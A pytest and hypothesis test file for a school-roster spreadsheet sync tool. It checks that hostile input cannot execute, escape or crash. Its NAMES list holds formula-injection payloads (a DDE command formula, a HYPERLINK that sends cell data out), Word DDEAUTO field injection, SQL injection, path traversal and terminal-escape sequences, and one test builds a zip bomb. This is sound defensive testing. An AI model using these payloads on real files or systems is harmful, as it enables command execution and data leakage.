"""Whatever somebody types, sends or leaves lying: nothing runs, nothing escapes, nothing crashes."""

from __future__ import annotations

import io
import json
import re
import zipfile
from contextlib import closing, suppress
from datetime import date
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sheets_sync import pipeline
from sheets_sync.awards.law_file import STOCK_FOLDER as LAW_FOLDER
from sheets_sync.awards.law_file import read_law
from sheets_sync.documents.word_file import parts_of, said_of, seal_of
from sheets_sync.errors import ConfigError, SheetsSyncError, UnavailableError
from sheets_sync.journal.journal import journal_path
from sheets_sync.model import Sheet
from sheets_sync.results.closed_months import read_book
from sheets_sync.rules.rubric_file import STOCK_FOLDER, read_rubric
from sheets_sync.school.school import is_form
from sheets_sync.settings.config_file import load_config
from sheets_sync.stores.xlsx import XlsxStore
from sheets_sync.stores.xlsx.inputs import read_workbook
from sheets_sync.views import tabs
from tests.closed_month import CLOSED, MARKS
from tests.drawn import ROSTER, sheets
from tests.google_school import google_config, google_store, spreadsheet_of
from tests.made_documents import made_document
from tests.made_up import made_up_config
from tests.scripted_server import Answer, ScriptedServer
from tests.shell import Shell

TODAY = date(2023, 11, 20)
NAMES = (
    "=1+1",
    '=HYPERLINK("http://a.example/?"&B2,"x")',
    "=cmd|'/c calc'!A0",
    "+84 912",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "{=A1}",
    "\x1b[31mĐỏ\x1b[0m",
    "\x1b]0;tiêu đề\x07",
    "\x9b31m",
    "\u202eBình\u202c",
    "\u2066An\u2069",
    "a\x00b",
    "<b>&amp;</b>\"'",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText>",
    "{{ school.name }}",
    "{% for x in y %}",
    "../../etc/passwd",
    "CON",
    "'; DROP TABLE run; --",
    "%s%n{0}{name}",
    "Ă" * 3000,
    "\ud800x",
    "🏆",
)


def hostile_sheets():
    """A roster of such names and teams, with marks for all, one of them wrong in each row."""
    roster = [["Mã CB", "Họ và tên", "Tổ", "Nhóm", "Trạng thái", "Email"]]
    month = [["Mã CB", "Họ và tên", "Ý thức kỷ luật, đạo đức", "Kết quả nhiệm vụ", "Ghi chú"]]
    for number, name in enumerate(NAMES):
        roster.append([f"{name[:20]}{number}", name, f"Tổ {name[:30]}", "GV", "Đang làm việc", name])
        month.append([f"{name[:20]}{number}", name, 20, 60 if number % 2 else name, name])
    return [Sheet("Danh sách", roster), Sheet("Tháng 10", month)]


@pytest.fixture(scope="module")
def results():
    return pipeline.compute(hostile_sheets(), made_up_config(), TODAY)


# --- outputs --------------------------------------------------------------------------------------------------------


def test_no_text_becomes_a_formula_in_a_workbook(tmp_path, results):
    config = made_up_config()._replace(folder=tmp_path)
    XlsxStore(config, is_form(config)).write(tabs.output_tabs(results), {})
    with closing(openpyxl.load_workbook(config.output_path)) as book:
        formulas = [
            (sheet.title, cell.coordinate)
            for sheet in book
            for row in sheet
            for cell in row
            if cell.data_type == "f"
        ]
        links = [
            cell.hyperlink.target or "" for sheet in book for row in sheet for cell in row if cell.hyperlink
        ]
    assert formulas == [("Tổng hợp", "A4")]  # the one of ours
    assert not any("a.example" in link for link in links)


def test_no_text_becomes_a_formula_in_a_spreadsheet(google, tmp_path):
    drawn = [
        sheet._replace(rows=[[_typed(cell) for cell in row] for row in sheet.rows])
        for sheet in hostile_sheets()
    ]
    book = spreadsheet_of(google, drawn)
    config = google_config(google, tmp_path, book)
    before = {sheet.title for sheet in google.spreadsheet(book).sheets}
    pipeline.sync(google_store(google, config), config, TODAY)
    ours = [sheet for sheet in google.spreadsheet(book).sheets if sheet.title not in before]
    formulas = [
        cell.entered
        for sheet in ours
        for cell in sheet.cells.values()
        if "formulaValue" in (cell.entered or {})
    ]
    assert len(ours) >= 5
    assert [entered["formulaValue"][:12] for entered in formulas] == ["=IF(TODAY()-"]


def _typed(cell):
    return re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff]", "", cell) if isinstance(cell, str) else cell


def test_names_stay_text_in_a_document(results):
    content = made_document("monthly", results, results.ranked_months[0]).content
    parts = parts_of(content)
    for name, part in parts.items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(part)
    xml = parts["word/document.xml"].decode()
    text = "".join(ElementTree.fromstring(xml).itertext())
    assert "{{ school.name }}" in text or "{% for x in y %}" in text
    assert "<w:instrText>DDEAUTO" not in xml
    assert "\u202e" not in text


@pytest.fixture(scope="module")
def shell(tmp_path_factory):
    shell = Shell(tmp_path_factory.mktemp("hostile"))
    text = '[school]\nname = "Trường \\u001b[2J"\nyear = "2023-2024"\n[journal]\npath = "nhat-ky.sqlite"\n'
    (shell.folder / "config.toml").write_text(text, encoding="utf-8")
    book = openpyxl.Workbook()
    for sheet in hostile_sheets():
        tab = book.create_sheet(sheet.title)
        for row in sheet.rows:
            tab.append([_typed(cell) for cell in row])
        for cells in tab.iter_rows():
            for cell in cells:
                cell.data_type = "s" if cell.data_type == "f" else cell.data_type
    del book["Sheet"]
    book.save(shell.folder / "so-thi-dua.xlsx")
    book.close()
    return shell


OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.slow
@pytest.mark.parametrize(
    "words",
    [
        ("check", "--verbose"),
        ("ranking",),
        ("sync",),
        ("history",),
        ("remind",),
        ("report",),
        ("explain", "=1+11"),
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("as_json", [(), ("--json",)], ids=["text", "json"])
def test_a_terminal_obeys_nobody(shell, words, as_json):
    done = shell.run(*words, *as_json, "--today", "2023-11-20")
    assert not OBEYED.search(done.stdout + done.stderr)
    if as_json:
        json.loads(done.stdout)


@pytest.mark.parametrize("name", ["../../tmp/x", "..", "/etc/x", "C:\\x", "a\x00b", "CON", "", "Ă" * 300])
def test_a_schools_name_leads_to_no_other_folder(tmp_path, monkeypatch, name):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    config = made_up_config()
    config = config._replace(school=config.school._replace(name=name))
    path = journal_path(config, tmp_path / "config.toml")
    assert path.resolve().parent == tmp_path / "sheets-sync"
    assert len(path.name) < 100


# --- readers --------------------------------------------------------------------------------------------------------

CELLS = st.one_of(
    st.none(),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.dates(),
    st.text(max_size=9),
)
HEADS = st.sampled_from(
    [
        "Tháng 10/2023",
        "Tháng 13/2023",
        "Đã mở lại",
        "Chốt ngày",
        "Dấu",
        "Mã CB",
        "Tổ",
        "Điểm",
        "Hạng",
        "Theo",
        "TV01",
        TODAY,
    ]
)


@pytest.mark.slow
@settings(max_examples=60)
@given(st.lists(st.lists(st.one_of(HEADS, CELLS), max_size=14), max_size=12))
def test_whatever_stands_on_the_closed_tab(rows):
    closed = tuple(tuple(row) for row in rows)
    read_book(closed)
    results = pipeline.compute(sheets(ROSTER + MARKS), made_up_config(), TODAY, closed=closed)
    tabs.output_tabs(results)


@pytest.mark.slow
@settings(max_examples=60)
@given(st.data())
def test_whatever_a_hand_makes_of_a_closed_month(data):
    rows = [list(row) for row in CLOSED]
    for _ in range(data.draw(st.integers(1, 5))):
        row = rows[data.draw(st.integers(3, len(rows) - 1))]
        if row:
            row[data.draw(st.integers(0, len(row) - 1))] = data.draw(st.one_of(HEADS, CELLS))
    results = pipeline.compute(
        sheets(ROSTER + MARKS), made_up_config(), TODAY, closed=tuple(map(tuple, rows))
    )
    tabs.output_tabs(results)


@given(st.one_of(st.text(), st.binary()))
def test_any_text_as_a_config(tmp_path_factory, text):
    path = tmp_path_factory.getbasetemp() / "config.toml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "replace"))
    with suppress(ConfigError):
        load_config(path)


VALUES = st.one_of(
    st.text(max_size=20),
    st.integers(),
    st.floats(),
    st.booleans(),
    st.dates(),
    st.lists(st.text(max_size=5), max_size=3),
)


@given(
    st.sampled_from(
        ("school", "store", "rules", "closing", "safety", "alerts", "journal", "classes", "columns")
    ),
    st.data(),
)
def test_any_value_of_any_key_of_a_config(section, data):
    from sheets_sync.settings import config as module
    from sheets_sync.settings.config_file import parse_config

    kind = getattr(module, section.title(), None)
    key = data.draw(st.sampled_from(kind._fields) if kind else st.text(max_size=9))
    values = {"school": {"name": "x", "year": "2023-2024"}}
    values[section] = {**values.get(section, {}), key: data.draw(VALUES)}
    with suppress(ConfigError):
        parse_config(values, STOCK_FOLDER / "config.toml")


LAWS = [path.read_text(encoding="utf-8").splitlines() for path in sorted(LAW_FOLDER.glob("*.toml"))]


@settings(max_examples=40)
@given(st.data())
def test_any_line_of_a_rule_set_replaced(data):
    lines = list(data.draw(st.sampled_from(LAWS)))
    at = data.draw(st.integers(0, len(lines) - 1))
    lines[at] = data.draw(
        st.one_of(st.text(max_size=40), st.sampled_from(["rule = 1", "titles = []", "of = {}", "[[rules]]"]))
    )
    try:
        read_law("\n".join(lines), "x", "x.toml")
    except ConfigError as error:
        assert "x.toml" in str(error)


@given(st.data())
def test_any_line_of_a_rubric_replaced(data):
    lines = (STOCK_FOLDER / "25-diem.toml").read_text(encoding="utf-8").splitlines()
    at = data.draw(st.integers(0, len(lines) - 1))
    key = lines[at].partition("=")[0]
    lines[at] = data.draw(
        st.one_of(st.text(max_size=30), VALUES.map(lambda value: f"{key}= {json.dumps(value, default=str)}"))
    )
    with suppress(ConfigError):
        read_rubric("\n".join(lines), "x", "x.toml")


@given(st.binary(max_size=300))
def test_any_bytes_as_a_document_to_verify(content):
    assert (said_of(content), seal_of(content)) == ({}, None)


def test_a_document_that_unpacks_without_end():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            archive.writestr(f"word/{number}.xml", b"\0" * 30_000_000)
    assert said_of(packed.getvalue()) == {}


def _template(config_folder, contents):
    folder = config_folder / "mau"
    folder.mkdir()
    (folder / "monthly.docx").write_bytes(contents)
    return made_up_config(reports={"templates": "mau"})._replace(folder=config_folder)


@pytest.mark.parametrize(
    "contents", [b"", b"PK\x03\x04", b"no template", b"\x00" * 1000], ids=["nothing", "cut", "text", "zeros"]
)
def test_what_is_no_template_is_told_as_a_matter_of_the_config(tmp_path, contents):
    results = pipeline.compute(sheets(ROSTER + MARKS), _template(tmp_path, contents), TODAY)
    with pytest.raises(ConfigError):
        made_document("monthly", results, results.ranked_months[0])


@pytest.mark.parametrize(
    ("merges", "possible"),
    [
        ("A1:B2 B2:C3 C3:D4", True),
        ("A1:B2 B2:C3 A2:B3", True),
        ("A1:A1048576 A1:XFD1", True),
        ("A1:B2 A1:B2", True),
        ("B2:A1", False),
        ("ZZZZ9:A1", False),
    ],
)
def test_merged_cells_that_overlap_or_cannot_be(tmp_path, merges, possible):
    path = tmp_path / "so.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Danh sách"
    book.active.append(["Mã CB", "Họ và tên"])
    book.save(path)
    book.close()
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    cells = "".join(f'<mergeCell ref="{each}"/>' for each in merges.split())
    sheet = parts["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", f"</sheetData><mergeCells>{cells}</mergeCells>".encode()
    )
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**parts, "xl/worksheets/sheet1.xml": sheet}.items():
            archive.writestr(name, data)
    if possible:
        [read] = read_workbook(path, None, lambda title: True)
        assert read.rows[0][:2] == ["Mã CB", "Họ và tên"]
    else:
        with pytest.raises(UnavailableError):
            list(read_workbook(path, None, lambda title: True))


# --- replies of Google ----------------------------------------------------------------------------------------------

KEYS = st.sampled_from(
    ["spreadsheetId", "sheets", "properties", "sheetId", "title", "data", "rowData", "values", "effectiveValue",
     "numberValue", "stringValue", "errorValue", "developerMetadata", "metadataKey", "metadataValue", "charts"]
)  # fmt: skip
REPLIES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-5, 5), st.text(max_size=5), st.just("sheets-sync")),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(KEYS, inner, max_size=4)),
    max_leaves=12,
)


@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(reply=REPLIES)
def test_any_reply_of_google_is_a_spreadsheet_or_an_error_of_ours(odd, reply):
    config, server, google = odd
    server.always = Answer(body=json.dumps(reply))
    store = google_store(google, config)
    try:
        pipeline.plan(store, config, TODAY)
    except SheetsSyncError as error:
        assert error.exit_code in (4, 5)
    assert not [asked for asked in server.asked if asked.method not in ("GET",)]


@pytest.fixture
def odd(google, tmp_path):
    with closing(ScriptedServer()) as server:
        config = google_config(google, tmp_path, "a-spreadsheet-of-the-school-x")
        config = config._replace(google=config.google._replace(endpoint=server.endpoint))
        yield config, server, google
